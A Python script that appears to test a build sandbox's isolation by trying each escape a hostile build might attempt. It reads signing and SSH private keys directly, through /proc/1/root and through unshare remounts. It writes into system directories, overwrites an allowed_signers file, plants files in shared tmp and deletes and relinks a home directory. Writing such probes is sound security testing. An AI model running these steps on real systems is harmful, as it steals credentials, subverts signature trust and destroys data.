"""What somebody pushes who wants the host: each thing that it could do, a line each."""

from __future__ import annotations

import os
import pathlib
import pty
import shutil
import socket
import subprocess
import sys
import tempfile

ROOT = pathlib.Path.cwd().parents[2]
HOME = ROOT.parents[2]
SECRETS = (
    ROOT / "keys/signing",
    ROOT / "identity.age",
    ROOT / "records/one",
    ROOT / "build/other/work/theirs",
    HOME / ".ssh/id_ed25519",
)
_UNCOVER = (
    "umount -l {path} 2>/dev/null; mount -o remount,rw,bind {path} 2>/dev/null;"
    " mount -o remount,rw / 2>/dev/null; cat {secret} 2>/dev/null"
)


def attempt(what: str, action: object) -> None:
    """Say it if that can be done."""
    try:
        done = action()  # type: ignore[operator]
    except (OSError, subprocess.SubprocessError):
        return
    print(f"can {what}: {done!r}")


def names(place: str, pattern: str) -> list[str]:
    """What is there."""
    return sorted(path.name for path in pathlib.Path(place).glob(pattern))


def uncover(path: pathlib.Path, secret: pathlib.Path) -> bytes:
    """Read it in namespaces of our own, where we are root."""
    script = _UNCOVER.format(path=path, secret=secret)
    own = ("unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script)
    return subprocess.run(own, check=True, capture_output=True, timeout=60).stdout


def attack() -> None:
    """All at once."""
    for secret in SECRETS:
        attempt("read", secret.read_bytes)
        attempt("read by /proc", pathlib.Path(f"/proc/1/root{secret}").read_bytes)
        for path in (HOME, ROOT, pathlib.Path("/tmp")):
            attempt("uncover", lambda path=path, secret=secret: uncover(path, secret))
    for place in (ROOT, ROOT / "keys", HOME, HOME / ".ssh", "/", "/etc", "/dev", "/usr/local/bin"):
        made = pathlib.Path(place, "from-the-build")
        attempt("write", lambda made=made: made.write_text("x"))
    signers = ROOT / "allowed_signers"
    attempt("overwrite", lambda: signers.write_text("mine"))
    attempt("speak to a service", lambda: socket.socket(socket.AF_UNIX).connect(f"{HOME}/bus"))
    for place in ("/dev/shm", "/tmp", "/var/tmp"):
        print(place, names(place, "of-the-host"))
        # What is left for others, and for the next build.
        pathlib.Path(place, "from-the-build").write_text("x")
    print("processes", names("/proc", "[0-9]*"))
    print("networks", [name for _, name in socket.if_nameindex()])
    pathlib.Path("../again").symlink_to(ROOT / "keys")
    shutil.rmtree("../home")
    pathlib.Path("../home").symlink_to(HOME)


def ordinary() -> None:
    """What a build may well do."""
    pathlib.Path("../cache/kept").write_text("x")
    with tempfile.NamedTemporaryFile() as file:
        file.write(os.urandom(16))
    pathlib.Path("/dev/null").write_text("x")
    os.close(pty.openpty()[0])
    with socket.create_server(("127.0.0.1", 0)) as server:
        socket.create_connection(server.getsockname()).close()
    words = [sys.executable, "-c", "print('a child')"]
    print(subprocess.run(words, check=True, capture_output=True, text=True).stdout.strip())


if __name__ == "__main__":
    attack()
    ordinary()
